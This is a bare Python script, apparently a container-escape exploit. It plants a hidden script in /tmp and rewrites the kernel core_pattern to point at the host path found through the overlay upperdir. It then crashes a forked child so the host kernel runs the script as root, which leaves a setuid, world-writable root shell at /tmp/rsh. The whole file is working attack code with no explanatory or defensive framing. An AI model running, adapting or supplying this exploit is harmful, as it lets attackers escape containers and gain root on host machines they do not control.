import os
import signal

cmd = "/tmp/.h"
with open(cmd, "w") as f:
    f.write("#!/bin/sh\ncp /bin/sh /tmp/rsh; chown root /tmp/rsh; chmod 4777 /tmp/rsh\n")
os.chmod(cmd, 0o755)
upper = ""
for opt in open("/proc/mounts").read().split(","):
    if opt.startswith("upperdir="):
        upper = opt[9:]
with open("/proc/sys/kernel/core_pattern", "w") as f:
    f.write("|" + upper + cmd)
if os.fork() == 0:
    os.kill(os.getpid(), signal.SIGSEGV)
